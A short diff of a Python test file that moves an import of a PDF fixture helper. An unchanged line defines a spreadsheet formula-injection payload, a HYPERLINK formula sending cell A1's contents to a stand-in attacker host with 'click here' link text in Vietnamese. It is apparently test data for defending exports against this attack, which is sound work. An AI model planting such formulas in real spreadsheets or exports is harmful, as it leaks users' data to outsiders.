@@ -15,8 +15,8 @@ from PIL import Image
 from sqlalchemy import select
 
 from tests import factories
-from tests.awards.conftest import pdf_bytes
 from tests.catalogue.import_fixtures import tax_code
+from tests.factories import pdf_bytes
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
